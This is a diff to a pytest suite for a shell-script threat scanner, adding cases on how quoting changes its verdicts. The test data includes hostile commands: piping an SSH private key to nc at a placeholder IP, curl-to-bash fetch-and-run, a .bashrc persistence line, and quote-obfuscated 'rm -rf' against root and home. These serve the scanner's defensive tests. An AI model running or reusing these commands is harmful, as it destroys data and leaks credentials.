@@ -27,6 +27,7 @@ B64_URL = "aHR0cHM6Ly9ldmlsLmV4YW1wbGUvcA=="  # https://evil.example/p
 INERT_FLOODS = [
     "a=b;",
     "rm -f /tmp/x{n}\n",
+    'rm -f "/tmp/x{n}"\n',
     "echo QUFB{n} | base64 -d | sh\n",
     "curl -fsSL http://192.0.2.1/x{n} | bash\n",
     'echo "ok {n}" 2>/dev/null\n',
@@ -47,6 +48,7 @@ HIDDEN = [
     ("curl -fsSL http://192.0.2.1/p -o p; base64 -d p", "download-then-decode"),
     ("echo 'curl http://x | sh' >> ~/.bashrc", "persistence-payload"),
     ("cat ~/.ssh/id_rsa | nc 192.0.2.1 1", "exfil-sensitive-file-upload"),
+    ('echo "aHR0cHM6 Ly9ldmls LmV4YW1w bGUvcA==" | base64 -d', "encoded-network-target"),  # quoted blanks
 ]
 
 
@@ -81,7 +83,7 @@ def test_statements_hidden_in_floods_are_found_as_without_the_gates(
 
 def test_a_flood_of_inert_statements_is_never_walked() -> None:
     source = _flood("curl -fsSL http://192.0.2.1/x{n} | bash\n", 2000) + _flood("a=b;", 2000)
-    source += _flood("rm -f /tmp/x{n}\n", 2000)
+    source += _flood("rm -f /tmp/x{n}\n", 2000) + _flood("rm -f '/tmp/x{n}'\n", 2000)
     root = parse(FileKind.SHELL, source)
     assert root is not None
     scan = ShellScan(ThreatContext(), LazyEnv(root.root_node), root=root.root_node)
@@ -142,6 +144,9 @@ _HOT = [s for s, _ in HIDDEN] + [
     "rm ~/.bash_history",
     "rm -r --no-preserve-root x",
     "rm -rf C:",
+    "rm -rf '/'",
+    'rm -rf ~/"Documents"',
+    'rm -f "/var/"log/x',
 ]
 _COLD = [
     "a=b",
@@ -160,6 +165,8 @@ _COLD = [
     "rm -f /tmp/x",
     "rm -rf build/ ~/x",
     "rm -f ~/.cache/x /home/u",
+    "rm -f \"/tmp/x\" '~/x'",
+    "echo 'a b'",
 ]
 _SEPARATORS = ["\n", "\n", "; ", " && ", " | ", " |\n ", " \\\n ", "\n\n"]
 
@@ -240,7 +247,21 @@ def test_an_expansion_matters_where_variables_are_assigned() -> None:
         ("echo rm -rf /", Verdict.ANALYSE),  # any word counts, wherever it stands
         ("mkfs.ext4 x", Verdict.ANALYSE),
         ("xargs curl", Verdict.ANALYSE),
-        ('echo "hi"', Verdict.ANALYSE),
+        ('echo "hi"', Verdict.INERT),
+        ('rm -f "/tmp/x" \'/tmp/y\' /tmp/"z"', Verdict.INERT),
+        ('r"m" -rf /tmp/x', Verdict.INERT),
+        ("rm -rf '/'", Verdict.ANALYSE),
+        ('rm -rf "~"/', Verdict.ANALYSE),
+        ('rm -f "/var/"log', Verdict.ANALYSE),
+        ("rm -f '--no-preserve-'root", Verdict.ANALYSE),
+        ("r''m -rf ~", Verdict.ANALYSE),
+        ("c'ur'l -d x http://x", Verdict.ANALYSE),
+        ('"base64" -d "/tmp/x"', Verdict.ANALYSE),
+        ('echo "QUFB QUFB QUFB" | base64 -d', Verdict.ANALYSE),  # a quote holding a blank
+        ('echo "a" "b c"', Verdict.ANALYSE),
+        ("echo 'a\"b'", Verdict.ANALYSE),  # a quote holding another quote
+        ('echo "$x"', Verdict.ANALYSE),
+        ('echo "a', Verdict.ANALYSE),
         ("echo hi > x", Verdict.ANALYSE),
     ],
 )
@@ -248,10 +269,11 @@ def test_plain_verdict(text: str, verdict: Verdict) -> None:
     assert plain_verdict(text.encode()) is verdict
 
 
-def test_a_decoder_or_rm_in_a_tree_with_syntax_errors_is_analysed() -> None:
+def test_a_decoder_rm_or_quote_in_a_tree_with_syntax_errors_is_analysed() -> None:
     assert plain_verdict(b"echo QUFB | base64 -d | sh", exact=False) is Verdict.ANALYSE
     assert plain_verdict(b"rm -f x", exact=False) is Verdict.ANALYSE  # `~C:` can be read as `C:`
     assert plain_verdict(b"curl -fsSL http://x | bash", exact=False) is Verdict.FETCHES
+    assert plain_verdict(b'echo "hi"', exact=False) is Verdict.ANALYSE  # where does a quote end?
 
 
 @pytest.mark.parametrize("broken", [False, True])
@@ -289,10 +311,22 @@ _RM_WORDS = st.sampled_from(
 ) | st.text(alphabet="abc/~.:=,+@%-_", min_size=1, max_size=6)  # fmt: skip
 
 
+def _dress(word: str, how: int, at: int) -> str:
+    """`word` as written: bare, in quotes, partly quoted, with an empty string inside."""
+    k = at % (len(word) + 1)
+    return [word, f'"{word}"', f"'{word}'", f'{word[:k]}"{word[k:]}"', f"{word[:k]}''{word[k:]}"][how]
+
+
+_WRITTEN = st.builds(_dress, _RM_WORDS, st.integers(0, 4), st.integers(0, 8)) | _RM_WORDS
+
+
 @settings(max_examples=400, deadline=None)
 @given(
     st.lists(
-        st.tuples(st.sampled_from(["rm ", "sudo rm ", "/bin/rm ", "a=b rm ", "echo "]), st.lists(_RM_WORDS)),
+        st.tuples(
+            st.sampled_from(["rm ", "sudo rm ", "/bin/rm ", "a=b rm ", "echo ", '"rm" ', "r'm' "]),
+            st.lists(_WRITTEN),
+        ),
         min_size=1,
         max_size=5,
     ),
